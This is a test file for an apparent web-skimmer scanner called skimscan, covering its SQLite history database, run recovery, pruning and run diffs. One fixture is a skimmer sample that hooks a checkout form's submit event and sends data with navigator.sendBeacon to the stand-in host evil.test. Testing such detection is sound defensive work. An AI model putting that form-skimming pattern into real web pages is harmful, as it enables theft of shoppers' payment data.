import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { HistoryDb, defaultDbPath } from './db.js';
import { SCHEMA_VERSION } from './schema.js';
import { compareRecords, findingFingerprint } from './facts.js';
import { diffRuns, renderRunDiff } from './diff.js';
import { finding, record } from './test-records.js';

const PAGE = 'https://shop.example/checkout';
const LIB = 'https://shop.example/assets/app.js';

let dir: string;
let db: HistoryDb;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'skimscan-history-'));
  db = HistoryDb.open(join(dir, 'h.db'));
});
afterEach(() => {
  db.close();
  rmSync(dir, { recursive: true, force: true });
});

function runWith(recs: Array<ReturnType<typeof record>>, group = 'g', startedAt?: string): number {
  const id = db.startRun({ group, trigger: 'test', targetsTotal: recs.length, startedAt });
  recs.forEach((r, i) => db.recordTarget(id, i, r.rec, r.sources));
  db.finishRun(id, 'complete');
  return id;
}

describe('HistoryDb', () => {
  it('creates the schema in WAL mode at the latest version; reopening is idempotent; a newer schema is refused', () => {
    expect(db.schemaVersion).toBe(SCHEMA_VERSION);
    expect(String(db.db.pragma('journal_mode', { simple: true }))).toBe('wal');
    db.close();
    db = HistoryDb.open(join(dir, 'h.db'));
    expect(db.schemaVersion).toBe(SCHEMA_VERSION);
    db.close();
    const raw = new Database(join(dir, 'h.db'));
    raw.pragma(`user_version = ${SCHEMA_VERSION + 1}`);
    raw.close();
    expect(() => HistoryDb.open(join(dir, 'h.db'))).toThrow(/newer than this skimscan understands/);
    const fix = new Database(join(dir, 'h.db'));
    fix.pragma(`user_version = ${SCHEMA_VERSION}`);
    fix.close();
    db = HistoryDb.open(join(dir, 'h.db'));
  });

  it('defaults to the user data directory', () => {
    expect(defaultDbPath({ HOME: '/home/u' }, 'linux')).toBe('/home/u/.local/share/skimscan/history.db');
    expect(defaultDbPath({ HOME: '/home/u', XDG_DATA_HOME: '/data' }, 'linux')).toBe('/data/skimscan/history.db');
    expect(defaultDbPath({ HOME: '/Users/u' }, 'darwin')).toBe('/Users/u/Library/Application Support/skimscan/history.db');
  });

  it('records targets with findings, inventory, destinations and sources, and the changes against the previous record', () => {
    const r1 = runWith([record(PAGE, { scripts: [{ url: LIB, source: 'ok()' }] })]);
    const r2 = runWith([record(PAGE, {
      scripts: [{ url: LIB, source: 'ok(); EVIL()' }], requests: ['https://evil.test/c.gif'],
      findings: [finding('skimmer', 'critical', LIB)],
    })]);
    const [t1] = db.runTargets(r1);
    const [t2] = db.runTargets(r2);
    expect(t1!.changes.first).toBe(true);
    expect(t2!.verdict).toBe('compromised');
    expect(t2!.maxSeverity).toBe('critical');
    expect(t2!.scripts.map((s) => s.url)).toEqual([LIB]);
    expect(t2!.destinations.map((d) => d.site)).toEqual(['evil.test', 'shop.example']);
    expect(t2!.changes.verdict).toEqual({ from: 'clean', to: 'compromised' });
    expect(t2!.changes.changedScripts.map((s) => s.url)).toEqual([LIB]);
    expect(t2!.changes.newDestinations).toEqual(['evil.test']);
    expect(t2!.changes.newFindings.map((f) => f.ruleId)).toEqual(['skimmer']);
    expect(db.source(t2!.scripts[0]!.sha256)).toBe('ok(); EVIL()');
    expect(db.timeline({ url: PAGE }).map((r) => r.runId)).toEqual([r1, r2]);
  });

  it('compares an error record with nothing new, and the next good record with the last good one', () => {
    runWith([record(PAGE, { scripts: [{ url: LIB, source: 'ok()' }] })]);
    const r2 = runWith([record(PAGE, { verdict: 'error', error: { code: 'timeout', message: 'slow' } })]);
    const r3 = runWith([record(PAGE, { scripts: [{ url: LIB, source: 'ok()' }] })]);
    expect(db.runTargets(r2)[0]!.changes.newScripts).toEqual([]);
    const c3 = db.runTargets(r3)[0]!.changes;
    expect(c3.newScripts).toEqual([]);
    expect(c3.changedScripts).toEqual([]);
    expect(c3.verdict).toBeNull();
  });

  it('marks runs of dead processes incomplete on open, keeping every target they committed', () => {
    const id = db.startRun({ group: 'g', trigger: 'test', targetsTotal: 2 });
    db.recordTarget(id, 0, record(PAGE).rec, {});
    db.db.prepare('UPDATE runs SET pid = ? WHERE id = ?').run(2 ** 22 + 12345, id); // no such process
    db.close();
    db = HistoryDb.open(join(dir, 'h.db'));
    expect(db.recovered).toEqual([id]);
    expect(db.run(id)!.status).toBe('incomplete');
    expect(db.runTargets(id)).toHaveLength(1);
    expect(db.db.pragma('integrity_check', { simple: true })).toBe('ok');
  });

  it('a run of this live process is not recovered', () => {
    const id = db.startRun({ group: 'g', trigger: 'test', targetsTotal: 1 });
    expect(db.recoverDeadRuns()).toEqual([]);
    expect(db.run(id)!.status).toBe('running');
  });

  it('prunes old runs but never a page\'s last run or a run with a critical finding', () => {
    const old = (d: number) => new Date(Date.now() - d * 86_400_000).toISOString();
    const a1 = runWith([record(PAGE)], 'g', old(40));
    const a2 = runWith([record(PAGE, { findings: [finding('skimmer', 'critical', LIB)] })], 'g', old(35));
    const a3 = runWith([record(PAGE)], 'g', old(31));
    const b1 = runWith([record('https://other.example/pay')], 'g', old(50));
    const a4 = runWith([record(PAGE)], 'g', old(1));
    const r = db.prune(30);
    expect(r.runs).toBe(2);
    expect(db.runs().map((x) => x.id)).toEqual([a2, b1, a4]);
    void a1; void a3;
  });

  it('diffs two runs: changed script with a readable diff, new destination, new findings', () => {
    const src1 = 'function pay() {\n  submit();\n}\n';
    const src2 = `${src1}document.forms[0].addEventListener('submit', function () { navigator.sendBeacon('https://evil.test/c', 'x'); });\n`;
    const r1 = runWith([record(PAGE, { scripts: [{ url: LIB, source: src1 }] })]);
    const r2 = runWith([record(PAGE, { scripts: [{ url: LIB, source: src2 }, { url: 'https://evil.test/x.js', source: 'x()' }], requests: ['https://evil.test/c'], findings: [finding('skimmer', 'critical', LIB)] })]);
    const d = diffRuns(db, r1, r2);
    const p = d.pages[0]!;
    expect(p.verdict).toEqual({ a: 'clean', b: 'compromised' });
    expect(p.changedScripts[0]!.diff).toContain('+document.forms[0]');
    expect(p.newScripts.map((s) => s.url)).toEqual(['https://evil.test/x.js']);
    expect(p.newDestinations).toEqual(['evil.test']);
    expect(p.newFindings.map((f) => f.ruleId)).toEqual(['skimmer']);
    const text = renderRunDiff(d);
    expect(text).toContain(`~ changed script ${LIB}`);
    expect(text).toContain('+ new destination evil.test');
    expect(() => diffRuns(db, r1, 999)).toThrow(/no run 999/);
  });
});

describe('facts', () => {
  it('fingerprints findings by rule and script URL without the query', () => {
    expect(findingFingerprint(finding('skimmer', 'critical', `${LIB}?v=1`))).toBe(findingFingerprint(finding('skimmer', 'critical', `${LIB}?v=2`)));
    expect(findingFingerprint({ ruleId: 'x', script: null, message: 'sent 123 bytes' })).toBe(findingFingerprint({ ruleId: 'x', script: null, message: 'sent 456 bytes' }));
  });

  it('does not report removed scripts or destinations for a partial record', () => {
    const prev = record(PAGE, { scripts: [{ url: LIB, source: 'a' }], requests: ['https://cdn.example/x'] }).rec;
    const cur = record(PAGE, { partial: true }).rec;
    const c = compareRecords(prev, cur);
    expect(c.removedScripts).toEqual([]);
    expect(c.removedDestinations).toEqual([]);
  });
});
